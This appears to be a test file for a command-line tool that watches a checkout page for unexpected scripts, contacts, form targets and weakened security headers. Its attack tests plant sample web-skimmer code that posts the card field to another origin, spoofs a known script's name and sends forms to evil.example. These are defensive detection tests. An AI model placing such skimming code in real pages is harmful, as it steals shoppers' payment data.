import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { run } from '../../../server/app/cli/command.fixture.ts'
import type { Baseline } from '../baseline.ts'
import { hashOf } from '../take-inventory.ts'
import { browserEnv, startWatchedShop, type WatchedShop } from '../watched-shop.fixture.ts'

const POLICY = "script-src 'self' 'nonce-abc'; frame-ancestors 'none'"

let shop: WatchedShop
let folder: string
let file: string

beforeAll(async () => {
  shop = await startWatchedShop()
  folder = await mkdtemp(join(tmpdir(), 'tillgate-page-test-'))
})
afterAll(async () => {
  await shop.close()
  await rm(folder, { recursive: true })
})

beforeEach(async () => {
  file = join(folder, `${expect.getState().currentTestName?.length}.json`)
  await rm(file, { force: true })
  shop.pages.clear()
  showPage('<form action="/pay"><input name="card"></form><script src="/shop.js?v=1"></script>')
  shop.pages.set('/shop.js', { text: 'var shop = "ä"' })
})

function showPage(body: string, headers: Readonly<Record<string, string>> = {}) {
  const text = `<!doctype html><html lang="en"><title>Pay</title><body>${body}`
  shop.pages.set('/pay', { text, headers })
}

function check(...words: readonly string[]) {
  const given = ['--baseline', file, '--no-sandbox', '--wait', '0', ...words]
  return run(['page', 'check', `${shop.origin}/pay`, ...given], { env: browserEnv })
}

const readFileOf = async () => JSON.parse(await readFile(file, 'utf8')) as Baseline

/** Accepts the page as it is, as a person does who knows all of it. */
async function accept(change: Partial<Baseline> = {}) {
  await check('--accept')
  const baseline = await readFileOf()
  const scripts = baseline.scripts.map((script) => ({ ...script, purpose: 'Ours' }))
  await writeFile(file, JSON.stringify({ ...baseline, scripts, ...change }))
}

describe('a page that nobody has changed', () => {
  it('is looked at to its end where it shows a dialog', async () => {
    showPage('<script>alert("Welcome"); document.title = confirm("Pay?")</script><p>Pay</p>')
    await accept()
    expect((await check()).code).toBe(0)
  })

  it('is written with the hash of each script, and differs in nothing once each has a purpose', async () => {
    expect((await check('--accept')).lines.at(-1)).toBe(
      `${file} is written: 1 scripts have no purpose yet, write into it what each is for`,
    )
    const [script] = (await readFileOf()).scripts
    expect(script).toMatchObject({
      place: 'page',
      kind: 'file',
      address: `${shop.origin}/shop.js`,
      hash: hashOf('var shop = "ä"'),
      purpose: '',
    })

    const unexplained = await check()
    expect(unexplained.code).toBe(1)
    expect(unexplained.lines[0]).toContain('script without purpose: ')

    await accept()
    expect(await check()).toMatchObject({ code: 0, complaints: [] })
  })

  it('keeps its purposes when it is accepted again', async () => {
    await accept()
    shop.pages.set('/shop.js', { text: 'var shop = 2' })
    await check('--accept')
    expect((await readFileOf()).scripts).toMatchObject([
      { hash: hashOf('var shop = 2'), purpose: 'Ours' },
    ])
  })

  it('may have a nonce and an id that are others each time, which a mask names', async () => {
    const show = (id: string) =>
      showPage(`<script nonce="n${id}">var session = "${id}"</script>`, {
        'content-security-policy': `script-src 'nonce-n${id}'`,
      })
    show('1001')
    await accept()
    const scripts = await readFileOf()
    show('1002')
    expect((await check()).code).toBe(1)

    await writeFile(file, JSON.stringify({ ...scripts, masks: ['session = "[0-9]+"'] }))
    await check('--accept')
    const baseline = await readFileOf()
    const explained = baseline.scripts.map((script) => ({ ...script, purpose: 'Ours' }))
    await writeFile(file, JSON.stringify({ ...baseline, scripts: explained }))
    show('1003')
    expect(await check()).toMatchObject({ code: 0 })
  })
})

describe('an attack', () => {
  it('by a script that a tag manager adds later, and that reads the form, is found with who added it', async () => {
    await accept()
    shop.pages.set('/shop.js', {
      text: `setTimeout(() => {
        const tag = document.createElement('script')
        tag.src = '${shop.otherOrigin}/tag.js'
        document.body.append(tag)
      }, 300)`,
    })
    shop.pages.set('/tag.js', {
      text: `document.currentScript.remove()
        const read = () => fetch('${shop.otherOrigin}/take', { mode: 'no-cors', method: 'POST',
          body: document.forms[0].card.value })
        document.forms[0].addEventListener('input', read)
        read()`,
    })
    const { code, lines } = await check()
    expect(code).toBe(1)
    expect(lines).toContainEqual(
      expect.stringContaining(
        `new script: ${shop.otherOrigin}/tag.js, added by ${shop.origin}/shop.js`,
      ),
    )
    expect(lines).toContain(`new contact: the page now sends requests to ${shop.otherOrigin}`)
    expect(lines).toContainEqual(expect.stringMatching(/^changed script: .*shop\.js/))
  })

  it('that gives itself the name of a known script is a script of its own', async () => {
    await accept()
    const known = `${shop.origin}/shop.js`
    showPage(
      `<form action="/pay"></form><script src="/shop.js"></script><script>steal = 1\n//# sourceURL=${known}</script>`,
    )
    const { lines } = await check()
    expect(lines).toContainEqual(expect.stringMatching(/^new script: inline script, /))
    expect(lines.filter((line) => line.startsWith('changed'))).toEqual([])
  })

  it('in code made of text, a worker, a handler and a frame is found at each place', async () => {
    await accept()
    shop.pages.set('/w.js', { text: 'self.stolen = 1' })
    shop.pages.set('/frame', { text: '<script>parent.stolen = 2</script>' })
    showPage(
      `<form action="/pay"></form><script src="/shop.js"></script>
       <script>eval('var made = 3'); new Worker('/w.js')</script>
       <b onclick="stolen = 4"></b><a href=" javascript:stolen()">x</a>
       <iframe src="${shop.otherOrigin}/frame"></iframe>`,
    )
    const { code, lines } = await check()
    expect(code).toBe(1)
    const found = (text: string) => expect(lines).toContainEqual(expect.stringContaining(text))
    found(`new script: script without an address, added by ${shop.origin}/pay`)
    found(`new script: ${shop.origin}/w.js in worker ${shop.origin}`)
    found('new script: handler (b onclick)')
    found('new script: handler (a href)')
    found(`new script: inline script in ${shop.otherOrigin}`)
    found(`new frame: ${shop.otherOrigin}`)
  })

  it('that sends the form elsewhere, by the form, a button or a shadow root, is found', async () => {
    await accept()
    showPage(
      `<form action="https://evil.example/a?x=1"><button formaction="https://evil.example/b">Pay</button></form>
       <div><template shadowrootmode="closed"><form action="https://evil.example/c"></form></template></div>
       <script src="/shop.js"></script>`,
    )
    const { lines } = await check()
    for (const path of ['a', 'b', 'c']) {
      expect(lines).toContain(
        `new form target: a form in page is sent to https://evil.example/${path}`,
      )
    }
  })
})

describe('a page that protects itself less', () => {
  it('is found with what its headers have lost', async () => {
    const body = '<script src="/shop.js"></script>'
    showPage(body, {
      'content-security-policy': POLICY,
      'strict-transport-security': 'max-age=31536000; includeSubDomains',
      'referrer-policy': 'no-referrer',
      'x-frame-options': 'DENY',
    })
    await accept()
    showPage(body, {
      'content-security-policy': "script-src 'self' 'nonce-def' https://cdn.example",
      'strict-transport-security': 'max-age=60',
      'referrer-policy': 'origin',
    })
    const { code, lines } = await check()
    expect(code).toBe(1)
    expect(lines).toEqual(
      expect.arrayContaining([
        'header weaker: content-security-policy: script-src now also has https://cdn.example; frame-ancestors is gone',
        'header weaker: strict-transport-security: max-age is 60 s, it was 31536000 s; includeSubDomains is gone',
        'header gone: x-frame-options: it was DENY',
        'header changed: referrer-policy: origin; it was no-referrer',
      ]),
    )
  })
})

describe('a page that has lost a script', () => {
  it('is found, and as JSON as well', async () => {
    await accept()
    showPage('<form action="/pay"></form>')
    const { code, lines } = await check('--json')
    expect(code).toBe(1)
    const { findings, inventory } = JSON.parse(lines.join('\n'))
    expect(findings).toMatchObject([{ kind: 'vanished script' }])
    expect(inventory.scripts).toEqual([])
  })
})

describe('a page that is not shown', () => {
  it('is no page without changes', async () => {
    await accept()
    shop.pages.delete('/pay')
    const { code, complaints } = await check()
    expect([code, complaints]).toEqual([
      1,
      ['tillgate page check: The page was not loaded: it is answered with 404'],
    ])
  })
})

describe('wrong words', () => {
  it.each([
    [['page', 'check', 'shop.example', '--baseline', 'x'], 'URL must be an address'],
    [['page', 'check', 'https://shop.example'], '--baseline is missing'],
    [
      ['page', 'check', 'https://shop.example', '--baseline', 'x', '--wait', '61'],
      '--wait must be 0 to 60 seconds',
    ],
    [
      ['page', 'check', 'https://shop.example', '--baseline', 'x', '--gateway', 'https://a/b'],
      '--gateway must be an origin',
    ],
    [['page', 'check', 'https://shop.example', '--baseline', '/none/x'], 'there is no /none/x'],
  ])('%j are answered with what is wrong', async (words, said) => {
    const { code, complaints } = await run(words, { env: browserEnv })
    expect([code, complaints[0]]).toEqual([2, expect.stringContaining(said)])
  })

  it('a machine without Chromium says which names were looked for', async () => {
    const env = { PATH: '/none' }
    const words = ['page', 'check', 'https://shop.example', '--baseline', file]
    const { code, complaints } = await run(words, { env })
    expect([code, complaints[0]]).toEqual([2, expect.stringContaining('no Chromium was found')])
  })

  it('a baseline that is none is named with what is wrong in it', async () => {
    await writeFile(file, '{"version":1,"page":"x","frames":[],"contacts":[],"masks":["("]}')
    const { code, complaints } = await check()
    expect([code, complaints[0]]).toEqual([1, expect.stringContaining('is no baseline: each of')])
  })
})
